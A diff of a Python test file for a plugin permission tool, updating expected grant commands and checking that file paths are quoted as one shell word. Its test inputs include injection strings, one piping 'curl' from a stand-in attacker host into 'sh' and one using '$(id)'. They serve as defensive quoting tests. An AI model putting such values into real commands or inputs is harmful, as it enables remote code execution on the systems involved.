@@ -35,8 +35,8 @@ def test_what_it_asks_for_can_be_granted(step):
     assert step("session.read:work-1").endswith("grant demo 'session.read:work-*'")
 
 
-def test_of_a_bare_path_permission_the_path_is_granted(step):
-    assert step("filesystem.read:/srv/f").endswith("grant demo filesystem.read:/srv/f")
+def test_of_a_bare_path_permission_that_is_granted_the_path_is_granted_besides(step):
+    assert step("filesystem.read:/srv/f").endswith("grant demo filesystem.read")
     assert step("filesystem.read:/srv/f", grants=("filesystem.read",)).endswith("filesystem.read:/srv/f")
 
 
@@ -44,7 +44,7 @@ def test_of_a_bare_path_permission_the_path_is_granted(step):
     "path", ["/srv/my papers", "/srv; curl -s evil.example|sh", "/srv/it's", "/srv/$(id)"]
 )
 def test_whatever_a_path_holds_is_one_word_of_the_command(step, path):
-    command = step(f"filesystem.read:{path}").partition(": ")[2]
+    command = step(f"filesystem.read:{path}", grants=("filesystem.read",)).partition(": ")[2]
     assert shlex.split(command) == ["yesman", "plugin", "grant", "demo", f"filesystem.read:{path}"]
 
 
